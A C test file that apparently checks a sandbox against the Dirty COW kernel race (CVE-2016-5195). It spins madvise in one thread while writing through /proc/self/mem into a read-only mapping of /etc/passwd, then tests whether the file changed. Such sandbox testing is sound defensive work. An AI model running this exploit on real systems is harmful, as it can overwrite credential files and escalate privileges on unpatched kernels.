/* Write through /proc/self/mem into a private mapping of a file that can only be read, while it is thrown away.
 *
 * origin: CVE-2016-5195 (Dirty COW), CVE-2022-2590
 * stopped by: /proc is read-only; a kernel that is patched; the file is the sandbox's own
 * control: none: needs a kernel of 2016
 */
#include "attempt.h"
#include <pthread.h>

static char *map;
static volatile int going = 1;

static void *throw_away(void *nothing)
{
    while (going)
        madvise(map, 4096, MADV_DONTNEED);
    return NULL;
}

int main(void)
{
    char before[16] = "", after[16] = "";
    pthread_t thread;
    int file = open("/etc/passwd", O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
    pread(file, before, 15, 0);
    map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    pthread_create(&thread, NULL, throw_away, NULL);
    for (int i = 0; i < 20000; i++)
        pwrite(memory, "ATTACK", 6, (off_t)map);
    going = 0;
    pthread_join(thread, NULL);
    pread(file, after, 15, 0);
    ATTEMPT("a change to /etc/passwd", strcmp(before, after) != 0 || before[0] == 0);
}
